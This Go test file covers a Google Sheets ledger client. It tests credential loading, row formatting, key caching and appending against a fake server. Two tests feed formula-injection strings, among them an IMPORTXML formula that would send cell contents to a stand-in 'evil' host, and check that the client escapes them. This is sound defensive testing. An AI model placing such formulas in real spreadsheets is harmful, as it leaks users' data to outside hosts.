package google

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	ports "apartment/internal/sheets"

	"github.com/google/uuid"
	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"
)

type fakeSheet struct {
	mu       sync.Mutex
	keys     [][]any
	appended [][]any
	gets     int
}

func (f *fakeSheet) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	w.Header().Set("Content-Type", "application/json")
	switch {
	case r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, ":append"):
		body, _ := io.ReadAll(r.Body)
		var vr struct {
			Values [][]any `json:"values"`
		}
		if err := json.Unmarshal(body, &vr); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		f.appended = append(f.appended, vr.Values...)
		for _, row := range vr.Values {
			f.keys = append(f.keys, []any{row[0]})
		}
		_ = json.NewEncoder(w).Encode(map[string]any{
			"updates": map[string]any{"updatedRange": "'Ledger'!A2:H2"},
		})
	case r.Method == http.MethodGet:
		f.gets++
		_ = json.NewEncoder(w).Encode(map[string]any{"values": f.keys})
	default:
		http.NotFound(w, r)
	}
}

func newTestClient(t *testing.T, fake *fakeSheet) *Client {
	t.Helper()
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication(),
		goption.WithHTTPClient(srv.Client()))
	require.NoError(t, err)
	return NewWithService(svc, "sheet-id", "Ledger", time.UTC)
}

func sampleRow() ports.LedgerRow {
	return ports.LedgerRow{
		EventType:     "transaction.recorded",
		OccurredAt:    time.Date(2024, 3, 3, 9, 30, 0, 0, time.UTC),
		RegisterID:    uuid.New(),
		TransactionID: uuid.New(),
		Direction:     "OUT",
		Amount:        decimal.RequireFromString("42.5"),
		Description:   "light bulbs",
	}
}

func TestNew_MissingSpreadsheetID(t *testing.T) {
	_, err := New(context.Background(), " ", "Ledger", time.UTC)
	require.Error(t, err)
	assert.Equal(t, "missing GOOGLE_SPREADSHEET_ID", err.Error())
}

func TestLoadCredentials(t *testing.T) {
	t.Run("inline json wins", func(t *testing.T) {
		t.Setenv("GOOGLE_SERVICE_ACCOUNT_JSON", `{"type":"service_account"}`)
		t.Setenv("GOOGLE_SERVICE_ACCOUNT_FILE", "/does/not/exist")
		data, err := loadCredentials()
		require.NoError(t, err)
		assert.JSONEq(t, `{"type":"service_account"}`, string(data))
	})

	t.Run("missing everything", func(t *testing.T) {
		t.Setenv("GOOGLE_SERVICE_ACCOUNT_JSON", "")
		t.Setenv("GOOGLE_SERVICE_ACCOUNT_FILE", "")
		t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")
		_, err := loadCredentials()
		require.Error(t, err)
		assert.Contains(t, err.Error(), "missing service account credentials")
	})

	t.Run("unreadable file", func(t *testing.T) {
		t.Setenv("GOOGLE_SERVICE_ACCOUNT_JSON", "")
		t.Setenv("GOOGLE_SERVICE_ACCOUNT_FILE", "")
		t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", t.TempDir()+"/missing.json")
		_, err := loadCredentials()
		require.Error(t, err)
		assert.Contains(t, err.Error(), "read service account file")
	})
}

func TestRowValues(t *testing.T) {
	row := sampleRow()
	rome, err := time.LoadLocation("Europe/Rome")
	require.NoError(t, err)

	got := rowValues(row, rome)
	require.Len(t, got, len(header))
	assert.Equal(t, row.Key(), got[0])
	assert.Equal(t, "2024-03-03 10:30:00", got[1])
	assert.Equal(t, "transaction.recorded", got[2])
	assert.Equal(t, row.RegisterID.String(), got[3])
	assert.Equal(t, row.TransactionID.String(), got[4])
	assert.Equal(t, "OUT", got[5])
	assert.Equal(t, "42.50", got[6])
	assert.Equal(t, "light bulbs", got[7])
}

func TestParseKeys(t *testing.T) {
	values := [][]any{
		{"a"},
		{},
		{"  "},
		{" b "},
		{"a"},
		{"c", "extra"},
	}
	assert.Equal(t, []string{"a", "b", "c"}, parseKeys(values))
	assert.Empty(t, parseKeys(nil))
}

func TestSheetRangeQuotesName(t *testing.T) {
	c := &Client{sheetName: "Bob's ledger"}
	assert.Equal(t, "'Bob''s ledger'!A:H", c.sheetRange(rowColumns))
}

func TestClientWithoutService(t *testing.T) {
	c := NewWithService(nil, "id", "", nil)
	assert.Equal(t, "Ledger", c.sheetName)

	_, err := c.AppendLedgerRow(context.Background(), sampleRow())
	assert.Error(t, err)
	_, err = c.HasLedgerRow(context.Background(), "missing")
	assert.Error(t, err)
	assert.Error(t, c.EnsureHeader(context.Background()))
}

func TestAppendAndHasLedgerRow(t *testing.T) {
	fake := &fakeSheet{}
	c := newTestClient(t, fake)
	ctx := context.Background()
	row := sampleRow()

	has, err := c.HasLedgerRow(ctx, row.Key())
	require.NoError(t, err)
	assert.False(t, has)
	assert.Equal(t, 1, fake.gets)

	ref, err := c.AppendLedgerRow(ctx, row)
	require.NoError(t, err)
	assert.Equal(t, "'Ledger'!A2:H2", ref)
	require.Len(t, fake.appended, 1)
	assert.Equal(t, row.Key(), fake.appended[0][0])

	// Served from the local cache.
	has, err = c.HasLedgerRow(ctx, row.Key())
	require.NoError(t, err)
	assert.True(t, has)
	assert.Equal(t, 1, fake.gets)
}

func TestHasLedgerRowReadsSheet(t *testing.T) {
	row := sampleRow()
	fake := &fakeSheet{keys: [][]any{{"other"}, {row.Key()}}}
	c := newTestClient(t, fake)

	has, err := c.HasLedgerRow(context.Background(), row.Key())
	require.NoError(t, err)
	assert.True(t, has)

	// Every key read is remembered.
	has, err = c.HasLedgerRow(context.Background(), "other")
	require.NoError(t, err)
	assert.True(t, has)
	assert.Equal(t, 1, fake.gets)
}

func TestRowValuesKeepsDescriptionPlain(t *testing.T) {
	tests := []struct {
		description string
		want        string
	}{
		{`=IMPORTXML("http://evil/"&A1,"//x")`, `'=IMPORTXML("http://evil/"&A1,"//x")`},
		{"+1+1", "'+1+1"},
		{"-cmd", "'-cmd"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"'quoted", "''quoted"},
		{"\t=1", "'\t=1"},
		{"light = bulbs", "light = bulbs"},
		{"", ""},
	}
	for _, tt := range tests {
		t.Run(tt.description, func(t *testing.T) {
			row := sampleRow()
			row.Description = tt.description
			assert.Equal(t, tt.want, rowValues(row, time.UTC)[7])
		})
	}
}

func TestAppendLedgerRowEscapesFormula(t *testing.T) {
	fake := &fakeSheet{}
	c := newTestClient(t, fake)
	row := sampleRow()
	row.Description = `=HYPERLINK("http://evil/")`

	_, err := c.AppendLedgerRow(context.Background(), row)
	require.NoError(t, err)
	require.Len(t, fake.appended, 1)
	assert.Equal(t, `'=HYPERLINK("http://evil/")`, fake.appended[0][7])
}

func TestLedgerRowKeys(t *testing.T) {
	fake := &fakeSheet{keys: [][]any{{"a"}, {" b "}, {"a"}}}
	c := newTestClient(t, fake)

	keys, err := c.LedgerRowKeys(context.Background())
	require.NoError(t, err)
	assert.Equal(t, []string{"a", "b"}, keys)
	assert.Equal(t, 1, fake.gets)

	has, err := c.HasLedgerRow(context.Background(), "b")
	require.NoError(t, err)
	assert.True(t, has)
	assert.Equal(t, 1, fake.gets, "keys are cached after a full read")

	_, err = NewWithService(nil, "id", "", nil).LedgerRowKeys(context.Background())
	assert.Error(t, err)
}
